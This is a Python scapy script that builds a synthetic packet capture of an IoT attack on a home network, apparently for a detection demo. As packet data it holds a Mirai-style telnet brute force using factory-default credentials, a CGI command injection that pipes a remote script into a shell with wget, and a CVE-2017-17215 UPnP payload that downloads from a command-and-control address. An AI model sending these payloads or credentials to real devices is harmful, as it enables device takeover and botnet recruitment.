"""Write pcaps/demo-camera-attack.pcap: a small home-LAN capture for the demo.

Documentation addresses only. A camera (192.0.2.10) uploads to its vendor
cloud and resolves names; then an attacker on the internet (198.51.100.99)
brute-forces a smart plug's telnet with Mirai's factory-default credentials
and sends an HTTP command injection to the camera's CGI; the camera then
calls a C2 server. Run: python pcaps/make_demo.py
"""
from __future__ import annotations

import sys
from pathlib import Path

from scapy.all import DNS, DNSQR, DNSRR, IP, TCP, UDP, Ether, Raw, wrpcap

CAMERA = ("192.0.2.10", "44:47:cc:00:00:10")   # Hikvision OUI
PLUG = ("192.0.2.20", "b0:be:76:00:00:20")     # TP-Link OUI
ROUTER_MAC = "02:00:00:00:00:01"
CLOUD = "203.0.113.10"
DNS_SERVER = "203.0.113.53"
ATTACKER = "198.51.100.99"
C2 = "198.51.100.66"


class Clock:
    def __init__(self, start: float) -> None:
        self.t = start

    def __call__(self, step: float = 0.01) -> float:
        self.t += step
        return self.t


def tcp_session(clock, client, cmac, server, smac, sport, dport, requests, responses=(),
                banner=b""):
    """A complete TCP conversation: handshake, an optional server banner,
    request/response pairs, FIN."""
    pkts = []
    c_seq, s_seq = 1000, 5000

    def frame(src_mac, dst_mac, src, dst, sp, dp, flags, seq, ack, data=b""):
        p = Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=dst) / TCP(
            sport=sp, dport=dp, flags=flags, seq=seq, ack=ack, window=64240)
        if data:
            p = p / Raw(data)
        p.time = clock()
        return p

    pkts.append(frame(cmac, smac, client, server, sport, dport, "S", c_seq, 0))
    pkts.append(frame(smac, cmac, server, client, dport, sport, "SA", s_seq, c_seq + 1))
    c_seq += 1
    s_seq += 1
    pkts.append(frame(cmac, smac, client, server, sport, dport, "A", c_seq, s_seq))
    if banner:
        pkts.append(frame(smac, cmac, server, client, dport, sport, "PA", s_seq, c_seq, banner))
        s_seq += len(banner)
    for i, req in enumerate(requests):
        pkts.append(frame(cmac, smac, client, server, sport, dport, "PA", c_seq, s_seq, req))
        c_seq += len(req)
        resp = responses[i] if i < len(responses) else b""
        if resp:
            pkts.append(frame(smac, cmac, server, client, dport, sport, "PA", s_seq, c_seq, resp))
            s_seq += len(resp)
        else:
            pkts.append(frame(smac, cmac, server, client, dport, sport, "A", s_seq, c_seq))
    pkts.append(frame(cmac, smac, client, server, sport, dport, "FA", c_seq, s_seq))
    pkts.append(frame(smac, cmac, server, client, dport, sport, "FA", s_seq, c_seq + 1))
    pkts.append(frame(cmac, smac, client, server, sport, dport, "A", c_seq + 1, s_seq + 1))
    return pkts


def dns_exchange(clock, client, cmac, name, answer, sport):
    q = Ether(src=cmac, dst=ROUTER_MAC) / IP(src=client, dst=DNS_SERVER) / UDP(
        sport=sport, dport=53) / DNS(id=sport, rd=1, qd=DNSQR(qname=name))
    q.time = clock()
    r = Ether(src=ROUTER_MAC, dst=cmac) / IP(src=DNS_SERVER, dst=client) / UDP(
        sport=53, dport=sport) / DNS(id=sport, qr=1, aa=0, rd=1, ra=1, qd=DNSQR(qname=name),
                                     an=DNSRR(rrname=name, rdata=answer, ttl=300))
    r.time = clock()
    return [q, r]


def build() -> list:
    clock = Clock(1_700_000_000.0)
    pkts = []
    # Benign: the camera resolves its cloud and uploads a snapshot.
    pkts += dns_exchange(clock, CAMERA[0], CAMERA[1], "upload.camvendor.example", CLOUD, 40001)
    upload = (b"POST /v1/snapshot HTTP/1.1\r\nHost: upload.camvendor.example\r\n"
              b"User-Agent: IPCam/2.4.1\r\nContent-Length: 16\r\n\r\n" + b"\xff\xd8" * 8)
    pkts += tcp_session(clock, CAMERA[0], CAMERA[1], CLOUD, ROUTER_MAC, 40100, 80,
                        [upload], [b"HTTP/1.1 204 No Content\r\nServer: cloud\r\n\r\n"])
    # Attack 1: Mirai-style telnet brute force on the plug, factory defaults.
    for i, (user, pw) in enumerate([(b"root", b"xc3511"), (b"admin", b"admin"),
                                    (b"root", b"vizxv"), (b"default", b"default")]):
        pkts += tcp_session(
            clock, ATTACKER, ROUTER_MAC, PLUG[0], PLUG[1], 50000 + i, 23,
            [user + b"\r\n", pw + b"\r\n"],
            [b"Password: ", b"\r\nLogin incorrect\r\n"], banner=b"\r\nplug login: ")
    # Attack 2: command injection on the camera's CGI (virtual patch).
    inject = (b"GET /cgi-bin/admin.cgi?cmd=;wget%20http://198.51.100.66/m.sh%20-O-|sh HTTP/1.1\r\n"
              b"Host: 192.0.2.10\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
    pkts += tcp_session(clock, ATTACKER, ROUTER_MAC, CAMERA[0], CAMERA[1], 51000, 80,
                        [inject], [b"HTTP/1.0 200 OK\r\nServer: Boa/0.94.14rc21\r\n\r\nok"])
    # Attack 3: Huawei HG532 UPnP RCE probe (CVE-2017-17215) on port 37215.
    soap = (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 192.0.2.10:37215\r\n"
            b"Content-Length: 120\r\nAuthorization: Digest username=\"dslf-config\"\r\n\r\n"
            b"<?xml version=\"1.0\" ?><s:Envelope><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g "
            b"198.51.100.66 -l /tmp/x)</NewStatusURL></u:Upgrade></s:Envelope>")
    pkts += tcp_session(clock, ATTACKER, ROUTER_MAC, CAMERA[0], CAMERA[1], 51001, 37215, [soap])
    # After the injection: the camera calls its C2 server.
    pkts += tcp_session(clock, CAMERA[0], CAMERA[1], C2, ROUTER_MAC, 40200, 80,
                        [b"GET /m.sh HTTP/1.1\r\nHost: 198.51.100.66\r\nUser-Agent: Wget\r\n\r\n"])
    return pkts


def main() -> int:
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).with_name(
        "demo-camera-attack.pcap")
    wrpcap(str(out), build())
    print(f"wrote {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
